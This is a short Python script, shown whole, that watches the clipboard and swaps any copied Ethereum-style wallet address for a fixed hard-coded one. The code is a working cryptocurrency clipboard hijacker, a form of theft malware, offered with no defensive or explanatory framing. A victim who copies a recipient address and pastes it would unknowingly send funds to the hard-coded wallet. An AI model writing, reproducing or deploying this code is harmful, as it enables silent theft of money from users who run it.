import re
import time
import pyperclip

PAYOUT = "0x52908400098527886E0F7030069857D2E4169EE7"
ADDR = re.compile(r"^0x[a-fA-F0-9]{40}$")


def monitor():
    while True:
        text = pyperclip.paste()
        if ADDR.match(text) and text != PAYOUT:
            pyperclip.copy(PAYOUT)
        time.sleep(0.5)
